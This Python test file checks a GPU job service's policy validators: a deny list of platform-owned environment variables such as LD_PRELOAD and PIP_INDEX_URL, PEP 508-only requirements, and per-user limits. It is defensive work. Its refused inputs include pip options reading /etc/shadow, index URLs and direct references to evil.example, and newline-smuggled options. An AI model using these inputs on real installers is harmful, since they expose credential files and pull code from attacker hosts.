"""Operator policy: what a job may not set, requirements as PEP 508 only, and per-user limits.

Pure checks (shared/policy.py, services/gateway/policy.py, job_image/requirements.py), plus the
in-job install given the attacks of issue 10 (`-r/etc/shadow`, `--index-url`) for real.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from job_image import runner
from job_image.requirements import MAX_REQUIREMENTS, RequirementError, canonical
from services.gateway.policy import (
    MAX_ENV_NAMES,
    MAX_ENV_TOTAL,
    MAX_ENV_VALUE,
    check_env,
    check_network,
    check_priority,
    check_requirements,
    check_share,
    check_waiting,
    waiting_jobs,
)
from shared import config as config_mod
from shared.errors import (
    ConfigError,
    InvalidArgument,
    PermissionDenied,
    ResourceExhausted,
)
from shared.policy import UserPolicy, check_policy, env_refusal, policy_for, share_limits
from shared.views import JobInfo, JobStatus

ROOT = Path(__file__).resolve().parents[2]

# -- env ----------------------------------------------------------------------------------------

OWNED = [
    # finding 5: the partition's limits and Cumulus's own switches
    "CUDA_VISIBLE_DEVICES",
    "CUDA_MPS_PINNED_DEVICE_MEM_LIMIT",
    "CUDA_MPS_ACTIVE_THREAD_PERCENTAGE",
    "NVIDIA_VISIBLE_DEVICES",
    "CHRONOS_PARTITION_ID",
    "CHRONOS_DEVICE_KIND",
    "CUMULUS_NETWORK",
    "CUMULUS_JOB_ID",
    "CUMULUS_WHEELHOUSE",
    "CUMULUS_REQUIREMENTS",
    "GPU_DEVICE_ORDINAL",
    "ROCR_VISIBLE_DEVICES",
    "HIP_VISIBLE_DEVICES",
    "ZE_AFFINITY_MASK",
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "LD_AUDIT",
    "PIP_INDEX_URL",
    "PIP_CONFIG_FILE",
    "PYTHONPATH",
    "PYTHONHOME",
    "PYTHONSTARTUP",
    "PYTHONINSPECT",
    "PYTHONWARNINGS",
    "PYTHONUSERBASE",
    "PYTHONUNBUFFERED",
    "PATH",
    "HOME",
    "BASH_ENV",
    "ENV",
    "GLIBC_TUNABLES",
    "GCONV_PATH",
    "LOCPATH",
    "MALLOC_TRACE",
    # case does not matter
    "cuda_visible_devices",
    "Ld_Preload",
    "pythonpath",
]


@pytest.mark.parametrize("name", OWNED)
def test_variables_cumulus_owns_are_refused_naming_them(name: str) -> None:
    with pytest.raises(InvalidArgument) as info:
        check_env({"FINE": "1", name: "x"})
    assert info.value.field == "env"
    assert info.value.code == "INVALID_ARGUMENT"
    assert repr(name) in info.value.message
    assert "refused" in info.value.message
    assert env_refusal(name)


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("CUDA_VISIBLE_DEVICES", "partition's devices"),
        ("LD_PRELOAD", "dynamic linker"),
        ("PYTHONPATH", "interpreter starts"),
        ("PIP_INDEX_URL", "pip's settings"),
        ("CUMULUS_NETWORK", "runner's own settings"),
        ("GLIBC_TUNABLES", "C library"),
    ],
)
def test_the_message_says_why(name: str, why: str) -> None:
    assert why in env_refusal(name)


@pytest.mark.parametrize(
    "name", ["", "1ABC", "A-B", "A=B", "A B", "NAME\x00", "É", "A.B", "-x", "A\nB"]
)
def test_names_that_are_not_variable_names_are_refused(name: str) -> None:
    with pytest.raises(InvalidArgument, match="not a valid variable name"):
        check_env({name: "1"})


@pytest.mark.parametrize(
    "name",
    [
        "MY_SETTING",
        "_private",
        "http_proxy",
        "OMP_NUM_THREADS",
        "PYTHONHASHSEED",
        "PYTHONIOENCODING",
        "PYTHONUTF8",
        "TOKENIZERS_PARALLELISM",
        "HOMEPAGE",  # not HOME
        "PATHS",  # not PATH
        "LDAP_URI",  # LD_ is the prefix, not LD
        "TMPDIR",
        "LANG",
        "TZ",
        "X" * 200,
    ],
)
def test_the_jobs_own_variables_pass(name: str) -> None:
    assert check_env({name: "value"}) == {name: "value"}
    assert env_refusal(name) == ""


def test_a_nul_byte_in_a_value_is_refused() -> None:
    with pytest.raises(InvalidArgument, match="NUL byte") as info:
        check_env({"A": "x\x00y"})
    assert info.value.field == "env"


def test_sizes_are_bounded() -> None:
    check_env({f"V{i}": "x" for i in range(MAX_ENV_NAMES)})
    with pytest.raises(InvalidArgument, match=f"at most {MAX_ENV_NAMES}"):
        check_env({f"V{i}": "x" for i in range(MAX_ENV_NAMES + 1)})
    check_env({"BIG": "x" * MAX_ENV_VALUE})
    with pytest.raises(InvalidArgument, match="BIG: the value is 32769 bytes"):
        check_env({"BIG": "x" * (MAX_ENV_VALUE + 1)})
    with pytest.raises(InvalidArgument, match="BIG: the value is 32770 bytes"):
        check_env({"BIG": "é" * (MAX_ENV_VALUE // 2 + 1)})  # UTF-8 bytes, not characters
    many = {f"V{i}": "x" * MAX_ENV_VALUE for i in range(MAX_ENV_TOTAL // MAX_ENV_VALUE)}
    with pytest.raises(InvalidArgument, match=f"at most {MAX_ENV_TOTAL}"):
        check_env(many)


def test_an_empty_env_passes() -> None:
    assert check_env({}) == {}


# -- requirements -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "canonical_form"),
    [
        ("numpy", "numpy"),
        ("  numpy  ", "numpy"),
        ("numpy>=1.26", "numpy>=1.26"),
        ("numpy >= 1.26, < 2", "numpy<2,>=1.26"),
        ("torch[cuda]==2.3", "torch[cuda]==2.3"),
        ("Requests[socks,security]~=2.31", "Requests[security,socks]~=2.31"),
        ('tomli; python_version < "3.11"', 'tomli; python_version < "3.11"'),
        ("tinystats==0.1.0", "tinystats==0.1.0"),
        ("zope.interface", "zope.interface"),
        ("package.zip", "package.zip"),  # a valid name; pip runs in an empty directory
    ],
)
def test_pep_508_requirements_pass_in_canonical_form(line: str, canonical_form: str) -> None:
    assert check_requirements([line]) == [canonical_form]
    assert canonical(canonical_form) == canonical_form  # stable


REFUSED = [
    ("-r/etc/shadow", "pip option"),
    ("-r /etc/shadow", "pip option"),
    ("--requirement=/etc/shadow", "pip option"),
    ("--index-url https://evil.example/simple", "pip option"),
    ("--extra-index-url=https://evil.example/simple", "pip option"),
    ("-i https://evil.example/simple", "pip option"),
    ("-e .", "pip option"),
    ("--editable git+https://evil.example/x.git", "pip option"),
    ("-c /etc/passwd", "pip option"),
    ("--find-links /", "pip option"),
    ("--pre", "pip option"),
    ("  -r/etc/shadow", "pip option"),
    ("numpy @ https://evil.example/numpy.whl", "direct reference"),
    ("pkg @ file:///etc/shadow", "direct reference"),
    ("/etc/shadow", "not a PEP 508 requirement"),
    ("./local/project", "not a PEP 508 requirement"),
    ("../up", "not a PEP 508 requirement"),
    ("~/mine", "not a PEP 508 requirement"),
    ("https://evil.example/x.whl", "not a PEP 508 requirement"),
    ("git+https://evil.example/x.git", "not a PEP 508 requirement"),
    ("file:///etc/shadow", "not a PEP 508 requirement"),
    ("numpy --index-url https://evil.example", "not a PEP 508 requirement"),
    ("numpy; --pre", "not a PEP 508 requirement"),
    ("numpy==1.0 --hash=sha256:00", "not a PEP 508 requirement"),
    ("numpy\n--index-url https://evil.example", "control characters"),
    ("numpy\x00", "control characters"),
    ("", "empty requirement"),
    ("   ", "empty requirement"),
    ("x" * 1001, "longer than 1000"),
]


@pytest.mark.parametrize(("line", "why"), REFUSED)
def test_pip_options_urls_and_paths_are_refused_naming_the_line(line: str, why: str) -> None:
    with pytest.raises(InvalidArgument) as info:
        check_requirements(["numpy", line])
    assert info.value.field == "requirements"
    assert why in info.value.message
    shown = line.strip()[:80]
    if shown and why != "control characters":
        assert shown in info.value.message


def test_the_number_of_requirements_is_bounded() -> None:
    assert len(check_requirements([f"p{i}" for i in range(MAX_REQUIREMENTS)])) == MAX_REQUIREMENTS
    with pytest.raises(InvalidArgument, match=f"at most {MAX_REQUIREMENTS}"):
        check_requirements([f"p{i}" for i in range(MAX_REQUIREMENTS + 1)])


def test_a_requirement_that_is_not_a_string_is_refused() -> None:
    with pytest.raises(InvalidArgument, match="not a string"):
        check_requirements([3])  # type: ignore[list-item]


def test_the_job_refuses_pip_options_before_pip_runs(tmp_path: Path) -> None:
    """Finding 7, in the job itself: `-r<file>` never reaches pip, so the file's first line
    cannot appear in the job's error."""
    secret = tmp_path / "shadow"
    secret.write_text("root:TOPSECRET-HASH:19000::::::\n")
    target = tmp_path / "deps"
    for line in (f"-r{secret}", f"--requirement={secret}", "--index-url=http://127.0.0.1:9/"):
        with pytest.raises(RequirementError) as info:
            runner.install_requirements([line], target)
        assert "TOPSECRET" not in str(info.value)
        assert "pip option" in str(info.value)
    assert not target.exists()


def test_the_job_installs_canonical_requirements_after_a_double_dash(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """pip really gets the specifiers as arguments (`--`), from an empty directory."""
    wheelhouse = tmp_path / "wheelhouse"
    built = subprocess.run(
        [sys.executable, str(ROOT / "examples/vendor/build_wheelhouse.py"), str(wheelhouse)],
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert built.returncode == 0, built.stderr
    monkeypatch.setenv("CUMULUS_WHEELHOUSE", str(wheelhouse))
    monkeypatch.chdir(tmp_path)
    (tmp_path / "tinystats").mkdir()  # a directory named like the project is not taken for it
    target = tmp_path / "deps"
    runner.install_requirements(["tinystats >= 0.1"], target)
    assert (target / "tinystats.py").is_file()


def test_the_job_image_parses_with_pips_own_copy_of_packaging() -> None:
    """The job image has no `packaging`; pip's vendored one gives the same answers."""
    code = (
        "import sys; sys.modules['packaging'] = None\n"
        "from job_image.requirements import _parser, canonical, RequirementError\n"
        "assert _parser().__name__ == 'pip._vendor.packaging.requirements'\n"
        "print(canonical('torch[cuda] >= 2.3'))\n"
        "for bad in ('-r/etc/shadow', 'x @ file:///etc/shadow', '/etc/shadow'):\n"
        "    try:\n"
        "        canonical(bad)\n"
        "    except RequirementError:\n"
        "        print('refused')\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.split() == ["torch[cuda]>=2.3", "refused", "refused", "refused"]


def test_the_prepare_step_reports_a_refused_requirement(tmp_path: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "job_image.runner", "--prepare", str(tmp_path / "env")],
        env={"CUMULUS_REQUIREMENTS": '["-r/etc/shadow"]', "PATH": "/usr/bin:/bin"},
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == runner.EXIT_SETUP_ERROR
    assert "'-r/etc/shadow' is a pip option" in done.stderr
    assert not (tmp_path / "env").exists()


# -- priority, network, waiting, share --------------------------------------------------------

POLICY = UserPolicy(max_priority=100, max_queued=3, max_share=15)


@pytest.mark.parametrize("priority", [0, 1, -1, 100, -100])
def test_priorities_within_the_limit_pass(priority: int) -> None:
    assert check_priority(priority, POLICY, "alice") == priority


@pytest.mark.parametrize("priority", [101, -101, 2**63 - 1, -(2**63), 10**30])
def test_priorities_beyond_the_limit_are_refused_naming_it(priority: int) -> None:
    with pytest.raises(InvalidArgument) as info:
        check_priority(priority, POLICY, "alice")
    assert info.value.field == "priority"
    assert "Must be from -100 to 100" in info.value.message
    assert "policy.max_priority" in info.value.message
    assert "alice" in info.value.message


def test_a_boolean_is_not_a_priority() -> None:
    with pytest.raises(InvalidArgument):
        check_priority(True, POLICY, "alice")


def test_a_zero_max_priority_allows_only_zero() -> None:
    assert check_priority(0, UserPolicy(max_priority=0), "u") == 0
    with pytest.raises(InvalidArgument, match="from -0 to 0"):
        check_priority(1, UserPolicy(max_priority=0), "u")


def test_network_only_where_the_policy_allows_it() -> None:
    assert check_network(False, UserPolicy(network=False), "alice") is False
    assert check_network(True, UserPolicy(network=True), "alice") is True
    with pytest.raises(PermissionDenied) as info:
        check_network(True, UserPolicy(network=False), "alice")
    assert info.value.code == "PERMISSION_DENIED"
    assert "policy.network" in info.value.message
    assert "policy.users.alice.network: true" in info.value.message


def job(user: str, status: JobStatus) -> JobInfo:
    return JobInfo(job_id=f"{user}-{status}", user=user, status=status)


def test_waiting_jobs_are_submitted_or_queued_of_that_user() -> None:
    jobs = [
        job("alice", JobStatus.SUBMITTED),
        job("alice", JobStatus.QUEUED),
        job("alice", JobStatus.RUNNING),
        job("alice", JobStatus.SCHEDULED),
        job("alice", JobStatus.COMPLETED),
        job("bob", JobStatus.QUEUED),
    ]
    assert waiting_jobs(jobs, "alice") == 2
    assert waiting_jobs(jobs, "bob") == 1
    assert waiting_jobs(jobs, "carol") == 0


def test_max_queued_refuses_one_more_waiting_job() -> None:
    check_waiting(2, POLICY, "alice")
    with pytest.raises(ResourceExhausted) as info:
        check_waiting(3, POLICY, "alice")
    assert info.value.code == "RESOURCE_EXHAUSTED"
    assert "policy.max_queued" in info.value.message
    assert "already has 3 jobs waiting" in info.value.message


def test_a_job_larger_than_the_users_share_is_refused() -> None:
    check_share(15, POLICY, "alice")
    check_share(80, UserPolicy(max_share=0), "alice")  # 0: no limit
    with pytest.raises(ResourceExhausted) as info:
        check_share(20, POLICY, "alice")
    assert info.value.requested == "2"
    assert "at most 1.5 GPU (policy.max_share)" in info.value.message


# -- the config: policy_for, check_policy -------------------------------------------------------


def load(tmp_path: Path, policy: dict[str, object]) -> config_mod.Config:
    path = tmp_path / "cumulus.yaml"
    path.write_text(yaml.safe_dump({"policy": policy}))
    return config_mod.load(path, environ={})


def test_defaults(tmp_path: Path) -> None:
    cfg = config_mod.load(environ={})
    assert policy_for(cfg, "anyone") == UserPolicy(
        network=False, max_priority=100, max_share=0, max_queued=1000, stored_bytes=4 << 30
    )
    assert share_limits(cfg) == (0, {})


def test_a_users_overrides_are_merged_over_the_section(tmp_path: Path) -> None:
    cfg = load(
        tmp_path,
        {
            "max_priority": 10,
            "max_share": 2.5,
            "stored_bytes": "512MiB",
            "users": {
                "alice": {"network": True, "max_share": 4, "stored_bytes": "2GiB"},
                "bob": {"max_priority": 1000, "max_queued": 5, "stored_bytes": 1000},
            },
        },
    )
    assert policy_for(cfg, "alice") == UserPolicy(
        network=True, max_priority=10, max_share=40, max_queued=1000, stored_bytes=2 << 30
    )
    assert policy_for(cfg, "bob") == UserPolicy(
        network=False, max_priority=1000, max_share=25, max_queued=5, stored_bytes=1000
    )
    assert policy_for(cfg, "carol") == UserPolicy(
        max_priority=10, max_share=25, stored_bytes=512 << 20
    )
    assert share_limits(cfg) == (25, {"alice": 40})


def test_the_section_comes_from_the_environment_too() -> None:
    cfg = config_mod.load(
        environ={"CUMULUS_POLICY_NETWORK": "true", "CUMULUS_POLICY_MAX_SHARE": "0.5"}
    )
    assert policy_for(cfg, "u").network is True
    assert policy_for(cfg, "u").max_share == 5


@pytest.mark.parametrize(
    ("policy", "key", "text"),
    [
        ({"users": {"alice": {"netwrk": True}}}, "policy.users.alice.netwrk", "Unknown"),
        ({"users": {"alice": {"network": "yes"}}}, "policy.users.alice.network", "true or false"),
        ({"users": {"alice": {"max_priority": -1}}}, "policy.users.alice.max_priority", "0 to"),
        ({"users": {"alice": {"max_priority": 2.5}}}, "policy.users.alice.max_priority", "whole"),
        ({"users": {"alice": {"max_priority": True}}}, "policy.users.alice.max_priority", "whole"),
        ({"users": {"alice": {"max_share": 0.25}}}, "policy.users.alice.max_share", "steps of 0.1"),
        ({"users": {"alice": {"max_share": -1}}}, "policy.users.alice.max_share", "steps of 0.1"),
        ({"users": {"alice": {"max_share": "lots"}}}, "policy.users.alice.max_share", "GPUs"),
        ({"users": {"alice": {"max_share": None}}}, "policy.users.alice.max_share", "GPUs"),
        ({"users": {"alice": {"max_queued": 0}}}, "policy.users.alice.max_queued", "1 to"),
        ({"users": {"alice": {"stored_bytes": "lots"}}}, "policy.users.alice.stored_bytes", "size"),
        ({"users": {"alice": {"stored_bytes": -1}}}, "policy.users.alice.stored_bytes", "size"),
        ({"users": {"al ice": {"network": True}}}, "policy.users.al ice", "user name"),
        ({"users": {"a.b": {}}}, "policy.users.a.b", "user name"),
        ({"max_share": 0.15}, "policy.max_share", "steps of 0.1"),
        ({"stored_bytes": "a lot"}, "policy.stored_bytes", "size"),
    ],
)
def test_bad_values_are_config_errors_naming_the_key(
    tmp_path: Path, policy: dict[str, object], key: str, text: str
) -> None:
    with pytest.raises(ConfigError) as info:
        load(tmp_path, policy)
    assert info.value.key == key
    assert key in info.value.message
    assert text in info.value.message
    assert "cumulus.yaml" in info.value.message  # where it was written


def test_an_unknown_key_lists_the_known_ones(tmp_path: Path) -> None:
    with pytest.raises(ConfigError) as info:
        load(tmp_path, {"users": {"alice": {"gpus": 3}}})
    assert info.value.allowed == (
        "network",
        "max_priority",
        "max_share",
        "max_queued",
        "stored_bytes",
    )


def test_check_policy_is_usable_on_its_own() -> None:
    section = config_mod.PolicyConfig(users={"alice": {"max_share": 0.05}})
    with pytest.raises(ConfigError, match=r"policy\.users\.alice\.max_share: 0\.05\. "):
        check_policy(section)
